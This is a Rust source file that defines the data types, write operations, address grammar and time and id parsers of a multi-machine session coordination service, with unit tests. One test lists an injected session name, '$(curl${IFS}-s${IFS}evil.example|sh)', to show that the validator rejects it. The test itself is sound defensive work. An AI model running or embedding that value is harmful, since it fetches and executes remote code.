//! The contract's objects (Message, Todo, Lock, Component, Workflow) and the
//! write operations, with serialisers that accept what real servers send.

use chrono::{DateTime, NaiveDateTime, SecondsFormat, TimeZone, Utc};
use serde::{Deserialize, Deserializer, Serialize, Serializer};

/// The broadcast address: every session reads messages sent to it.
pub const ALL_SESSIONS: &str = "ALL_SESSIONS";
/// The session name used when none is configured.
pub const DEFAULT_SESSION: &str = "claude-main";

pub type Time = DateTime<Utc>;

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Message {
    #[serde(deserialize_with = "de_id")]
    pub id: i64,
    pub from_session: String,
    pub to_session: String,
    #[serde(default)]
    pub subject: Option<String>,
    pub body: String,
    #[serde(default)]
    pub created_by_user: String,
    #[serde(default)]
    pub created_by_machine: String,
    #[serde(with = "time_serde")]
    pub created_at: Time,
    #[serde(default)]
    pub read: bool,
    #[serde(default, with = "opt_time")]
    pub read_at: Option<Time>,
    /// v1.1: the message this one answers.
    #[serde(default, deserialize_with = "de_opt_id")]
    pub in_reply_to: Option<i64>,
    /// v1.1: who has read it; only in answers about what a session sent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub read_by: Option<Vec<String>>,
}

/// v1.1: a session the fleet has seen.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Session {
    pub session_id: String,
    #[serde(default)]
    pub user: String,
    #[serde(default)]
    pub machine: String,
    #[serde(default)]
    pub name: String,
    #[serde(default)]
    pub project: Option<String>,
    #[serde(default)]
    pub client: Option<String>,
    #[serde(with = "time_serde")]
    pub first_seen: Time,
    #[serde(with = "time_serde")]
    pub last_seen: Time,
}

/// v1.1: what `PUT /sessions/{id}` carries.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SessionUpdate {
    pub user: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub project: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub client: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Todo {
    #[serde(deserialize_with = "de_id")]
    pub id: i64,
    pub text: String,
    #[serde(default)]
    pub user: Option<String>,
    #[serde(default)]
    pub project: Option<String>,
    #[serde(default, deserialize_with = "de_opt_id")]
    pub parent_id: Option<i64>,
    #[serde(default)]
    pub source: Option<String>,
    #[serde(default)]
    pub auto: bool,
    pub status: TodoStatus,
    #[serde(default)]
    pub created_by_user: String,
    #[serde(default)]
    pub created_by_machine: String,
    #[serde(with = "time_serde")]
    pub created_at: Time,
    #[serde(default)]
    pub completed_by: Option<String>,
    #[serde(default, with = "opt_time")]
    pub completed_at: Option<Time>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum TodoStatus {
    Pending,
    Done,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Lock {
    #[serde(deserialize_with = "de_id")]
    pub id: i64,
    pub project: String,
    pub resource: String,
    pub session_id: String,
    #[serde(default)]
    pub note: Option<String>,
    #[serde(with = "time_serde")]
    pub created_at: Time,
    #[serde(with = "time_serde")]
    pub expires_at: Time,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Component {
    pub project: String,
    pub component: String,
    pub state: String,
    #[serde(default)]
    pub version: Option<String>,
    #[serde(default)]
    pub notes: Option<String>,
    #[serde(default)]
    pub updated_by: String,
    #[serde(with = "time_serde")]
    pub updated_at: Time,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Workflow {
    pub name: String,
    pub state: String,
    #[serde(default)]
    pub detail: Option<String>,
    #[serde(default)]
    pub updated_by: String,
    #[serde(with = "time_serde")]
    pub updated_at: Time,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Status {
    #[serde(default)]
    pub locks: Vec<Lock>,
    #[serde(default)]
    pub components: Vec<Component>,
    #[serde(default)]
    pub workflows: Vec<Workflow>,
}

// ---------------------------------------------------------------------------
// Writes: one enum so that the queue, the server's idempotency and both
// backends share a single description of every mutation.

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct NewMessage {
    pub to_session: String,
    pub body: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub subject: Option<String>,
    pub from_session: String,
    pub created_by_user: String,
    pub created_by_machine: String,
    /// v1.1: the message this one answers (a v1 server ignores it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub in_reply_to: Option<i64>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct NewTodo {
    pub text: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub project: Option<String>,
    #[serde(
        default,
        deserialize_with = "de_opt_id",
        skip_serializing_if = "Option::is_none"
    )]
    pub parent_id: Option<i64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
    #[serde(default)]
    pub auto: bool,
    pub created_by_user: String,
    pub created_by_machine: String,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct NewLock {
    pub project: String,
    pub resource: String,
    pub session_id: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ttl_hours: Option<f64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ComponentUpdate {
    pub state: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub version: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub notes: Option<String>,
    pub updated_by: String,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct WorkflowUpdate {
    pub state: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub detail: Option<String>,
    pub updated_by: String,
}

/// Every mutation of the contract.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "op", content = "payload", rename_all = "snake_case")]
pub enum Write {
    SendMessage(NewMessage),
    MarkRead {
        id: i64,
        session: String,
    },
    AddTodo(NewTodo),
    CompleteTodo {
        id: i64,
        completed_by: String,
    },
    ClaimLock(NewLock),
    ReleaseLock {
        id: i64,
        session_id: String,
        force: bool,
    },
    SetComponent {
        project: String,
        component: String,
        update: ComponentUpdate,
    },
    SetWorkflow {
        name: String,
        update: WorkflowUpdate,
    },
    /// v1.1 presence: creates or refreshes a session's `last_seen`.
    TouchSession {
        session_id: String,
        update: SessionUpdate,
    },
}

impl Write {
    /// The kind of write, as the queue line's `op` names it.
    pub fn op_name(&self) -> &'static str {
        match self {
            Write::SendMessage(_) => "send_message",
            Write::MarkRead { .. } => "mark_read",
            Write::AddTodo(_) => "add_todo",
            Write::CompleteTodo { .. } => "complete_todo",
            Write::ClaimLock(_) => "claim_lock",
            Write::ReleaseLock { .. } => "release_lock",
            Write::SetComponent { .. } => "set_component",
            Write::SetWorkflow { .. } => "set_workflow",
            Write::TouchSession { .. } => "touch_session",
        }
    }

    /// A short human description, used by the queue listing and errors.
    pub fn describe(&self) -> String {
        match self {
            Write::SendMessage(m) => format!("msg send to {}", m.to_session),
            Write::MarkRead { id, .. } => format!("msg read {id}"),
            Write::AddTodo(t) => format!("todo add {:?}", crate::text::clip(&t.text, 40)),
            Write::CompleteTodo { id, .. } => format!("todo done {id}"),
            Write::ClaimLock(l) => format!("lock claim {} {}", l.project, l.resource),
            Write::ReleaseLock { id, .. } => format!("lock release {id}"),
            Write::SetComponent {
                project,
                component,
                update,
            } => format!("component set {project} {component} {}", update.state),
            Write::SetWorkflow { name, update } => format!("workflow set {name} {}", update.state),
            Write::TouchSession { session_id, .. } => format!("session {session_id} seen"),
        }
    }
}

/// What a write answered.
#[derive(Debug, Clone, PartialEq)]
pub enum Written {
    Message(Message),
    Todo(Todo),
    /// `created` is false when the same session renewed a lock it held.
    Lock {
        lock: Lock,
        created: bool,
    },
    Component(Component),
    Workflow(Workflow),
    Session(Session),
}

impl Written {
    /// The contract object, as JSON, for `--json` and the server.
    pub fn to_json(&self) -> serde_json::Value {
        let v = match self {
            Written::Message(m) => serde_json::to_value(m),
            Written::Todo(t) => serde_json::to_value(t),
            Written::Lock { lock, .. } => serde_json::to_value(lock),
            Written::Component(c) => serde_json::to_value(c),
            Written::Workflow(w) => serde_json::to_value(w),
            Written::Session(s) => serde_json::to_value(s),
        };
        v.unwrap_or(serde_json::Value::Null)
    }
}

// ---------------------------------------------------------------------------
// Queries.

#[derive(Debug, Clone, Default, PartialEq)]
pub struct MessageQuery {
    pub session: String,
    pub unread_only: bool,
    pub limit: Option<u32>,
    /// Newest first (`order=desc`): with a limit, the newest N.
    pub newest_first: bool,
    /// Only messages with a larger id.
    pub after_id: Option<i64>,
    /// v1.1: what `session` sent (`from_session=`), each with `read_by`,
    /// instead of what it received.
    pub sent: bool,
}

pub const DEFAULT_MESSAGE_LIMIT: u32 = 100;
pub const MAX_MESSAGE_LIMIT: u32 = 1000;

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, clap::ValueEnum)]
pub enum StatusFilter {
    #[default]
    Pending,
    Done,
    All,
}

impl StatusFilter {
    pub fn as_str(self) -> &'static str {
        match self {
            StatusFilter::Pending => "pending",
            StatusFilter::Done => "done",
            StatusFilter::All => "all",
        }
    }
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "pending" => Some(Self::Pending),
            "done" => Some(Self::Done),
            "all" => Some(Self::All),
            _ => None,
        }
    }
}

#[derive(Debug, Clone, Default, PartialEq)]
pub struct TodoQuery {
    pub user: Option<String>,
    pub include_unassigned: bool,
    pub project: Option<String>,
    pub status: StatusFilter,
    /// The most to answer (v1.2: a server answers at most 1,000, 100 when
    /// not asked).
    pub limit: Option<u32>,
    /// v1.2 paging: only ids above this.
    pub after_id: Option<i64>,
}

#[derive(Debug, Clone, Default, PartialEq)]
pub struct LockQuery {
    pub project: Option<String>,
    pub session_id: Option<String>,
    /// The most to answer (as for todos).
    pub limit: Option<u32>,
    /// v1.2 paging: only ids above this.
    pub after_id: Option<i64>,
}

/// v1.2: what a list endpoint answers when no `limit` is given, and the
/// most it answers at all.
pub const DEFAULT_LIST_LIMIT: u32 = 100;
pub const MAX_LIST_LIMIT: u32 = 1000;

// ---------------------------------------------------------------------------
// Addressing.

/// Expands what a user typed as a recipient into a full session id:
/// `ALL`/`fleet`/`broadcast` (any case) → `ALL_SESSIONS`, a bare machine →
/// `MACHINE/claude-main`, a full id stays as it is.
pub fn expand_recipient(input: &str) -> String {
    let t = input.trim();
    if ["all", "fleet", "broadcast", "all_sessions"]
        .iter()
        .any(|w| t.eq_ignore_ascii_case(w))
    {
        ALL_SESSIONS.to_string()
    } else if t.contains('/') {
        canonical_session(t)
    } else {
        canonical_session(&format!("{t}/{DEFAULT_SESSION}"))
    }
}

/// A session id as the fleet writes it: the machine part upper-case (as
/// Windows shows computer names), the name as given. Upper-casing is ASCII
/// only: Unicode case folding would make `ſerver` `SERVER`. The one
/// function the store's migrations and every reader and writer use.
pub fn canonical_session(id: &str) -> String {
    match id.split_once('/') {
        Some((m, n)) => format!("{}/{n}", m.to_ascii_uppercase()),
        None if id == ALL_SESSIONS => id.to_string(),
        None => id.to_ascii_uppercase(),
    }
}

/// The longest machine or session name.
pub const MAX_NAME_LEN: usize = 64;

/// Why `part` cannot be a machine or session name, if it cannot: the
/// address grammar is `[A-Za-z0-9._-]`, 1 to 64 characters — nothing a
/// shell, a terminal or a reader could take for anything but a name.
pub fn name_problem(part: &str) -> Option<String> {
    if part.is_empty() {
        return Some("must not be empty".into());
    }
    if part.len() > MAX_NAME_LEN {
        return Some(format!("is over {MAX_NAME_LEN} characters"));
    }
    if let Some(c) = part
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
    {
        return Some(format!(
            "holds {}, but only letters A-Z, digits, '.', '_' and '-' are allowed",
            crate::text::quoted_char(c)
        ));
    }
    if part.chars().all(|c| c == '.') {
        return Some("must not be only dots".into());
    }
    None
}

/// Why `id` is not a session address (`MACHINE/NAME` or `ALL_SESSIONS`).
pub fn address_problem(id: &str) -> Option<String> {
    if id == ALL_SESSIONS {
        return None;
    }
    let Some((machine, name)) = id.split_once('/') else {
        return Some(format!(
            "{} is not MACHINE/NAME",
            crate::text::quoted(&crate::text::clip(id, 80))
        ));
    };
    let shown = || crate::text::quoted(&crate::text::clip(id, 80));
    if let Some(p) = name_problem(machine) {
        return Some(format!("{}: the machine {p}", shown()));
    }
    if let Some(p) = name_problem(name) {
        return Some(format!("{}: the name {p}", shown()));
    }
    if machine.eq_ignore_ascii_case(ALL_SESSIONS) {
        return Some(format!("{}: ALL_SESSIONS is the broadcast", shown()));
    }
    None
}

/// Whether `id` is a well-formed address (what may be shown bare).
pub fn is_address(id: &str) -> bool {
    address_problem(id).is_none()
}

impl Write {
    /// Every address this write carries, checked against the grammar:
    /// `Err((field, why))` for the first that is not one.
    pub fn check_addresses(&self) -> std::result::Result<(), (&'static str, String)> {
        let check = |field: &'static str, v: &str| match address_problem(v) {
            Some(p) => Err((field, p)),
            None => Ok(()),
        };
        match self {
            Write::SendMessage(m) => {
                check("to_session", &m.to_session)?;
                check("from_session", &m.from_session)?;
                if m.from_session == ALL_SESSIONS {
                    return Err(("from_session", "ALL_SESSIONS cannot send".into()));
                }
                Ok(())
            }
            Write::MarkRead { session, .. } => check("session", session),
            Write::ClaimLock(l) => check("session_id", &l.session_id),
            Write::ReleaseLock {
                session_id, force, ..
            } if !(session_id.is_empty() && *force) => check("session_id", session_id),
            Write::TouchSession { session_id, .. } => {
                check("session_id", session_id)?;
                if session_id == ALL_SESSIONS {
                    return Err(("session_id", "ALL_SESSIONS is the broadcast".into()));
                }
                Ok(())
            }
            _ => Ok(()),
        }
    }
}

// ---------------------------------------------------------------------------
// Time and id (de)serialisers.

/// Formats a time the way the contract writes it: RFC 3339, UTC, `Z`.
pub fn format_time(t: &Time) -> String {
    t.to_rfc3339_opts(SecondsFormat::AutoSi, true)
}

/// Reads RFC 3339, or an offset-less ISO 8601 time (with or without
/// fractional seconds, `T` or space) as UTC, as Python servers send it.
pub fn parse_time(s: &str) -> Option<Time> {
    let s = s.trim();
    if let Ok(t) = DateTime::parse_from_rfc3339(s) {
        return Some(t.with_timezone(&Utc));
    }
    for fmt in [
        "%Y-%m-%dT%H:%M:%S%.f",
        "%Y-%m-%d %H:%M:%S%.f",
        "%Y-%m-%dT%H:%M",
    ] {
        if let Ok(n) = NaiveDateTime::parse_from_str(s, fmt) {
            return Some(Utc.from_utc_datetime(&n));
        }
    }
    None
}

pub fn from_millis(ms: i64) -> Time {
    Utc.timestamp_millis_opt(ms).single().unwrap_or_default()
}

pub mod time_serde {
    use super::*;
    pub fn serialize<S: Serializer>(t: &Time, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&format_time(t))
    }
    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Time, D::Error> {
        let s = String::deserialize(d)?;
        parse_time(&s).ok_or_else(|| serde::de::Error::custom(format!("not a time: {s:?}")))
    }
}

mod opt_time {
    use super::*;
    pub fn serialize<S: Serializer>(t: &Option<Time>, s: S) -> Result<S::Ok, S::Error> {
        match t {
            Some(t) => s.serialize_str(&format_time(t)),
            None => s.serialize_none(),
        }
    }
    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Option<Time>, D::Error> {
        match Option::<String>::deserialize(d)? {
            None => Ok(None),
            Some(s) if s.is_empty() => Ok(None),
            Some(s) => parse_time(&s)
                .map(Some)
                .ok_or_else(|| serde::de::Error::custom(format!("not a time: {s:?}"))),
        }
    }
}

#[derive(Deserialize)]
#[serde(untagged)]
enum IdRepr {
    Int(i64),
    Str(String),
}

fn id_from(r: IdRepr) -> Result<i64, String> {
    match r {
        IdRepr::Int(i) => Ok(i),
        IdRepr::Str(s) => s.trim().parse().map_err(|_| format!("not an id: {s:?}")),
    }
}

/// Ids are integers; a server may send them as JSON strings.
pub fn de_id<'de, D: Deserializer<'de>>(d: D) -> Result<i64, D::Error> {
    id_from(IdRepr::deserialize(d)?).map_err(serde::de::Error::custom)
}

pub fn de_opt_id<'de, D: Deserializer<'de>>(d: D) -> Result<Option<i64>, D::Error> {
    match Option::<IdRepr>::deserialize(d)? {
        None => Ok(None),
        Some(r) => id_from(r).map(Some).map_err(serde::de::Error::custom),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recipients_expand() {
        assert_eq!(expand_recipient("ALL"), ALL_SESSIONS);
        assert_eq!(expand_recipient("Fleet"), ALL_SESSIONS);
        assert_eq!(expand_recipient("broadcast"), ALL_SESSIONS);
        assert_eq!(expand_recipient("HOWARD-HOME"), "HOWARD-HOME/claude-main");
        assert_eq!(expand_recipient("HOWARD-HOME/two"), "HOWARD-HOME/two");
        // Machine names are upper-case; the session name keeps its case.
        assert_eq!(expand_recipient("beta"), "BETA/claude-main");
        assert_eq!(expand_recipient("vm/Two"), "VM/Two");
        assert_eq!(canonical_session("howard-home/x"), "HOWARD-HOME/x");
        // ASCII only: no Unicode folding onto another machine's name.
        assert_eq!(canonical_session("ſerver/x"), "ſERVER/x");
        assert_eq!(canonical_session("büro/x"), "BüRO/x");
        assert_eq!(canonical_session(ALL_SESSIONS), ALL_SESSIONS);
    }

    #[test]
    fn one_address_grammar() {
        for ok in ["BOX/claude-main", "a.b/c_d-1", ALL_SESSIONS, "X/..x"] {
            assert!(is_address(ok), "{ok}");
        }
        for bad in [
            "/x",
            "x/",
            "BOX/x/y",
            "BOX/a\u{1}b",
            "ＡＬＬ/claude-main",
            "ВОХ/claude-main",
            "ſerver/claude-main",
            "stra\u{200b}ße/x",
            "EVIL/$(curl${IFS}-s${IFS}evil.example|sh)",
            "BOX/claude-main ",
            "BOX/..",
            "all_sessions/x",
            "BOX",
        ] {
            assert!(!is_address(bad), "{bad}");
        }
        assert!(!is_address(&format!("BOX/{}", "a".repeat(65))));
    }

    #[test]
    fn times_parse_in_every_allowed_form() {
        let want = Utc.with_ymd_and_hms(2026, 11, 25, 8, 12, 3).unwrap();
        assert_eq!(parse_time("2026-11-25T08:12:03Z"), Some(want));
        assert_eq!(parse_time("2026-11-25T09:12:03+01:00"), Some(want));
        assert_eq!(parse_time("2026-11-25T08:12:03"), Some(want));
        let frac = parse_time("2026-11-25T08:12:03.123456").unwrap();
        assert_eq!(frac.timestamp_micros() % 1_000_000, 123_456);
        assert_eq!(parse_time("yesterday"), None);
    }

    #[test]
    fn ids_as_strings_are_read() {
        let m: Lock = serde_json::from_str(
            r#"{"id":"7","project":"p","resource":"r","session_id":"A/b",
                "created_at":"2026-11-25T08:12:03.5","expires_at":"2026-11-25T10:12:03Z","x":1}"#,
        )
        .unwrap();
        assert_eq!(m.id, 7);
    }
}
